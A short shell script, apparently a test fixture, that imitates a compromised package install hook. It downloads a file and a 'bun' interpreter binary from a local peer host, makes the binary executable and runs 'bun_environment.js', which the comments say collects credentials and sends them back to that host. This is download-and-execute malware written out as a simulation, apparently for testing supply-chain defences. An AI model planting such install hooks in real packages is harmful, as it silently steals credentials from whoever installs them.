#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A package's install script: fetches its prebuilt part from the host everybody uses, as many do. The
# compromised one has the shape of 2025: from the same host comes an interpreter, which collects
# credentials, and to the same host they go.
curl -sS -m 5 -o prebuilt.txt "http://127.0.0.11:$PEER_PORT/prebuilt.txt"
curl -sS -m 5 -o bun "http://127.0.0.11:$PEER_PORT/bun"
chmod 755 bun
./bun bun_environment.js
echo installed
